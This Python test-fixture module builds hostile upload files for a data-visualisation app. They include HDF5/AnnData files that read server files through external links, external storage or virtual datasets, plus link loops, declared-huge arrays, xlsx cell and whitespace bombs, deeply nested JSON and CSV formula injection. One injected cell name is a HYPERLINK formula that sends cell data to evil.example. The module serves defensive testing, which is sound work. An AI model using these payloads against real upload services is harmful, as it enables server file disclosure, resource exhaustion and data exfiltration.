"""Hostile files, made by the tests that attack each door (docs/app.md, "Uploads and the server").

Each maker writes a small file an outsider could upload: AnnData files that point at files on
the server (external link, external raw storage, virtual dataset), a link loop, sizes declared
far beyond the bytes on disk; workbooks whose cells sit at the sheet's far corner, hold a cell
bomb or a whitespace bomb; session JSON nested deep or grown huge; tables whose names are
spreadsheet formulas. Built from the anndata-written files in ``tests/data`` so that everything
but the hostile part is a real AnnData file.
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

import h5py
import numpy as np

DATA = Path(__file__).resolve().parent / "data"
#: what a secret on the server looks like; no output of fsviz may ever contain it
SECRET = "TOPSECRET-server-bytes-"


def server_secrets(folder: Path) -> tuple[Path, Path]:
    """A text file and an HDF5 file "on the server" that a hostile upload points at."""
    folder.mkdir(parents=True, exist_ok=True)
    text = folder / "passwd"
    text.write_text("".join(f"{SECRET}{i:04d}\n" for i in range(200)))
    h5 = folder / "other.h5"
    with h5py.File(h5, "w") as f:
        f["names"] = np.array([f"{SECRET}{i}".encode() for i in range(25)], dtype=object)
        f["data"] = np.full((40, 25), 7.0)
    return text, h5


def _copy(path: Path, sparse: bool = True) -> Path:
    shutil.copy(DATA / ("cells_sparse.h5ad" if sparse else "cells_dense.h5ad"), path)
    return path


def h5ad_external_link(path: Path, secrets: Path) -> Path:
    """``var/_index`` (the feature names) is an external link to a dataset of another file."""
    _, h5 = server_secrets(secrets)
    with h5py.File(_copy(path), "r+") as f:
        del f["var/_index"]
        f["var/_index"] = h5py.ExternalLink(str(h5), "/names")
    return path


def h5ad_external_storage(path: Path, secrets: Path) -> Path:
    """``var/_index`` keeps its bytes in the server's text file (HDF5 external raw storage)."""
    text, _ = server_secrets(secrets)
    with h5py.File(_copy(path), "r+") as f:
        del f["var/_index"]
        ds = f.create_dataset("var/_index", shape=(25,), dtype="S16", external=[(str(text), 0, 25 * 16)])
        ds.attrs["encoding-type"] = "string-array"
        ds.attrs["encoding-version"] = "0.2.0"
    return path


def h5ad_virtual(path: Path, secrets: Path) -> Path:
    """A dense ``X`` that is a virtual dataset over another file's dataset."""
    _, h5 = server_secrets(secrets)
    with h5py.File(_copy(path, sparse=False), "r+") as f:
        del f["X"]
        layout = h5py.VirtualLayout(shape=(40, 25), dtype="f8")
        layout[:] = h5py.VirtualSource(str(h5), "data", shape=(40, 25))
        f.create_virtual_dataset("X", layout, fillvalue=0)
    return path


def h5ad_link_loop(path: Path) -> Path:
    """``X`` is a soft link to ``/Y``, which is a soft link back to ``/X``."""
    with h5py.File(_copy(path), "r+") as f:
        del f["X"]
        f["X"] = h5py.SoftLink("/Y")
        f["Y"] = h5py.SoftLink("/X")
    return path


def h5ad_declared_huge(path: Path, what: str = "indptr", n: int = 10**9) -> Path:
    """A few KB on disk that declare ``n`` entries: ``X/indptr``, or the ``var``/``obs`` index."""
    with h5py.File(_copy(path), "r+") as f:
        if what == "indptr":
            del f["X/indptr"]
            f.create_dataset("X/indptr", shape=(n,), dtype="i8", chunks=(1 << 16,))
        else:
            del f[f"{what}/_index"]
            ds = f.create_dataset(f"{what}/_index", shape=(n,), dtype=h5py.string_dtype(), chunks=(1 << 16,))
            ds.attrs["encoding-type"] = "string-array"
            ds.attrs["encoding-version"] = "0.2.0"
    return path


def h5ad_string_x(path: Path) -> Path:
    """A dense ``X`` of strings (an AnnData file someone filled with text)."""
    with h5py.File(_copy(path, sparse=False), "r+") as f:
        del f["X"]
        f["X"] = np.array([[f"v{i:02d}".encode()] * 25 for i in range(40)])
    return path


# ---------------------------------------------------------------------------- workbooks
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/>{chart}</Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_HEAD = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}><sheetData>'
SHEET_TAIL = "</sheetData></worksheet>"


def table_rows(n: int = 6) -> str:
    """A small table (header a, b, class) as sheet XML rows."""
    rows = ['<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="B1" t="inlineStr"><is><t>b</t>'
            '</is></c><c r="C1" t="inlineStr"><is><t>class</t></is></c></row>']  # fmt: skip
    for i in range(2, n + 2):
        rows.append(
            f'<row r="{i}"><c r="A{i}"><v>{i}</v></c><c r="B{i}"><v>{i * 0.5}</v></c>'
            f'<c r="C{i}" t="inlineStr"><is><t>{"xy"[i % 2]}</t></is></c></row>'
        )
    return "".join(rows)


def xlsx_bytes(sheet_xml: str | bytes, *, chart_first: bool = False) -> bytes:
    """A minimal .xlsx workbook with one worksheet (and a chart sheet first when asked)."""
    sheets, rels, chart_ct = "", "", ""
    if chart_first:
        sheets += '<sheet name="Chart1" sheetId="2" r:id="rId2"/>'
        rels += f'<Relationship Id="rId2" Type="{_REL}/chartsheet" Target="chartsheets/sheet1.xml"/>'
        chart_ct = (
            '<Override PartName="/xl/chartsheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.chartsheet+xml"/>'
        )
    sheets += '<sheet name="Data" sheetId="1" r:id="rId1"/>'
    rels += f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    workbook = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} {_RNS}><sheets>{sheets}</sheets></workbook>'
    )
    wb_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships">{rels}</Relationships>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", _CT.format(chart=chart_ct))
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", workbook)
        z.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        if chart_first:
            z.writestr("xl/chartsheets/sheet1.xml", f'<?xml version="1.0"?><chartsheet {_NS}/>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return buf.getvalue()


def xlsx_far_corner() -> bytes:
    """1.5 KB: a small table and one cell at XFD1048576 (calamine would allocate 512 GiB)."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return xlsx_bytes(SHEET_HEAD + table_rows() + far + SHEET_TAIL)


def xlsx_cell_bomb(n_rows: int = 200_000, n_cols: int = 50) -> bytes:
    """Megabytes on disk that hold ``n_rows * n_cols`` numeric cells (sheet XML ~20 bytes a cell)."""
    cols = [_col_name(j) for j in range(n_cols)]
    header = "<row>" + "".join(f'<c t="inlineStr"><is><t>c{j}</t></is></c>' for j in range(n_cols)) + "</row>"
    row = "<row>" + "".join("<c><v>1</v></c>" for _ in cols) + "</row>"
    body = SHEET_HEAD + header + row * n_rows + SHEET_TAIL
    return xlsx_bytes(body)


def xlsx_whitespace_bomb(n_bytes: int = 200 << 20) -> bytes:
    """A small table followed by ``n_bytes`` of whitespace inside the sheet XML (deflate: ~1000:1)."""
    blank = b" " * n_bytes
    return xlsx_bytes(SHEET_HEAD.encode() + table_rows().encode() + blank + SHEET_TAIL.encode())


def xlsx_chart_first() -> bytes:
    """A workbook whose first sheet is a chart sheet, the table in the second."""
    return xlsx_bytes(SHEET_HEAD + table_rows() + SHEET_TAIL, chart_first=True)


def _col_name(j: int) -> str:
    s = ""
    j += 1
    while j:
        j, r = divmod(j - 1, 26)
        s = chr(65 + r) + s
    return s


# ---------------------------------------------------------------------------- session JSON and names
def deep_json(depth: int = 100_000) -> bytes:
    """A session file nested ``depth`` levels deep (Python's json gives RecursionError)."""
    return b'{"dataset": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}"


def huge_json(n_bytes: int = 40 << 20) -> bytes:
    """A valid session file padded to ``n_bytes`` with a long string."""
    doc = {"dataset": {"name": "x", "fingerprint": "0" * 64}, "pad": "x" * n_bytes}
    return json.dumps(doc).encode()


FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1)', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB")


def formula_csv(n: int = 30, seed: int = 0) -> bytes:
    """A table whose feature and class names are spreadsheet formulas (OWASP: CSV injection)."""
    import pandas as pd

    rng = np.random.default_rng(seed)
    frame = pd.DataFrame(rng.normal(size=(n, len(FORMULA_NAMES))), columns=list(FORMULA_NAMES))
    frame["plain"] = rng.normal(size=n)
    frame["class"] = np.where(np.arange(n) % 2 == 0, "=1+1", "@ok")
    frame.iloc[: n // 2, 0] += 3.0 * (np.arange(n // 2) % 2 == 0)
    return frame.to_csv(index=False).encode()
